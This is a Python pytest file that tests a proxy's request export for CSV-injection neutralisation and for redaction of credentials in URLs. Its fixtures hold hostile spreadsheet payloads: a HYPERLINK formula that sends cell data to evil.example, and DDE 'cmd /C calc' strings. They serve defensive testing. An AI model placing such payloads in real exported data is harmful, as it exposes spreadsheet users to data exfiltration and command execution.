"""`llmproxy export requests`: CSV cells a spreadsheet would run as formulas are neutralised (OWASP
CSV injection), and credentials in URLs (query parameters, userinfo, a legacy ?target_url=) are
redacted in both formats."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy.ext.asyncio import AsyncEngine, async_sessionmaker

from extproc.cli import main
from intelligence.export import csv_row, export_document
from intelligence.records import Body
from intelligence.store.repositories import ExchangeRepository
from intelligence.store.sanitize import REDACTED, csv_safe, redact_url, redact_urls_in_text
from tests.intelligence.factories import make_record

SECRETS = ("sk-live-abc", "hunter2", "s1gn4ture", "tok-123", "p4ss", "AKIAEXAMPLE", "acc-tok", "nested-key")

LEGACY_PATH = (
    "/?target_url=https%3A%2F%2Fbob%3Ahunter2%40api.example.com%2Fv1%2Fchat%3Fkey%3Dnested-key%26model%3Dx&sig=s1gn4ture&note=ok"
)


def records():
    return [
        make_record(
            model='=HYPERLINK("http://evil.example/?"&A1,"click")',
            session_id="+cmd|' /C calc'!A0",
            client_addr="@SUM(1+1)*cmd|' /C calc'!A0",
            method="-2+3",
            path="/openai/v1/chat/completions?key=sk-live-abc&api_key=sk-live-abc&Token=tok-123&x=1",
            error="\tupstream https://admin:p4ss@up.example/v1?access_token=acc-tok failed",
            request_client=Body(text="=1+1", size=4),
            flags={"target_url": "https://u:p4ss@h.example/x?password=p4ss", "note": "see https://h/?signature=s1gn4ture"},
        ),
        make_record(route="legacy", api="legacy", path=LEGACY_PATH, finish_reason="\rstop"),
    ]


@pytest.fixture
async def stored(cli_db: tuple[str, AsyncEngine]):
    url, engine = cli_db
    recs = records()
    async with async_sessionmaker(engine).begin() as s:
        await ExchangeRepository(s).insert_batch(recs)
    return url, recs


def run_cli(url: str, tmp_path: Path, fmt: str) -> str:
    """The command as an operator runs it (it calls asyncio.run: a worker thread here)."""
    out = tmp_path / f"export.{fmt}"
    with pytest.raises(SystemExit) as exc:
        main(["export", "requests", "--database-url", url, "--format", fmt, "-o", str(out)])
    assert exc.value.code == 0
    with open(out, newline="") as fh:  # keep a "\r" inside a quoted cell as it was written
        return fh.read()


def test_redact_url_covers_the_credential_parameters_and_userinfo() -> None:
    for name in ("key", "api_key", "token", "sig", "signature", "access_token", "password", "API-KEY", "x-goog-signature"):
        assert redact_url(f"/v1/models?{name}=SECRET&a=1") == f"/v1/models?{name}={REDACTED}&a=1", name
    assert redact_url("https://u:p@h.example:8443/p?q=1") == f"https://{REDACTED}@h.example:8443/p?q=1"
    assert redact_url("https://h/cb#access_token=SECRET&state=s") == f"https://h/cb#access_token={REDACTED}&state=s"
    assert redact_url("/v1/chat/completions") == "/v1/chat/completions"  # unchanged, same object spelling
    assert redact_url("/p?monkey=1&keyboard=2") == "/p?monkey=1&keyboard=2"  # only whole parameter names
    legacy = redact_url(LEGACY_PATH)
    assert all(s not in legacy for s in SECRETS) and "note=ok" in legacy and "api.example.com" in legacy
    assert redact_url("http://[::1/x?key=SECRET") == f"http://[::1/x?key={REDACTED}"  # unparseable host: still redacted
    assert redact_urls_in_text("GET https://a:b@h/x?token=SECRET failed") == f"GET https://{REDACTED}@h/x?token={REDACTED} failed"


def test_csv_safe_prefixes_formula_starts_only() -> None:
    for bad in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_safe(bad) == "'" + bad
    for good in ("1", "a=1", "", "'quoted", "x-1"):
        assert csv_safe(good) == good


async def test_csv_export_neutralises_formulas_and_redacts_urls(stored, tmp_path: Path) -> None:
    url, recs = stored
    text = await asyncio.to_thread(run_cli, url, tmp_path, "csv")
    rows = {r["request_id"]: r for r in csv.DictReader(io.StringIO(text))}
    first, legacy = rows[recs[0].request_id], rows[recs[1].request_id]
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert first["model"].startswith("'=HYPERLINK(")
    assert first["session_id"] == "'+cmd|' /C calc'!A0" and first["client_addr"].startswith("'@SUM")
    assert first["method"] == "'-2+3" and first["error"].startswith("'\tupstream")
    assert json.loads(first["request"].removeprefix("'")) == "=1+1"  # a JSON string: starts with a quote, left alone
    assert legacy["finish_reason"] == "'\rstop"
    assert first["latency_ms"] == "850.0"  # numbers are ours and stay numbers
    assert first["path"] == f"/openai/v1/chat/completions?key={REDACTED}&api_key={REDACTED}&Token={REDACTED}&x=1"
    assert all(s not in text for s in SECRETS), [s for s in SECRETS if s in text]
    assert "note=ok" in legacy["path"] and "target_url=" in legacy["path"]


async def test_jsonl_export_redacts_urls(stored, tmp_path: Path) -> None:
    url, recs = stored
    text = await asyncio.to_thread(run_cli, url, tmp_path, "jsonl")
    docs = {d["request_id"]: d for d in map(json.loads, text.splitlines())}
    assert all(s not in text for s in SECRETS), [s for s in SECRETS if s in text]
    first = docs[recs[0].request_id]
    assert first["path"].endswith(f"Token={REDACTED}&x=1")
    assert first["flags"]["target_url"] == f"https://{REDACTED}@h.example/x?password={REDACTED}"
    assert first["model"].startswith("=HYPERLINK(")  # JSON is not a spreadsheet: values stay as they were
    assert first["request"] == "=1+1"


def test_csv_row_of_an_unsafe_document() -> None:
    row = csv_row(export_document(make_record(model="@evil", tool_names=("=x",))))
    assert row["model"] == "'@evil" and json.loads(row["tool_names"]) == ["=x"]
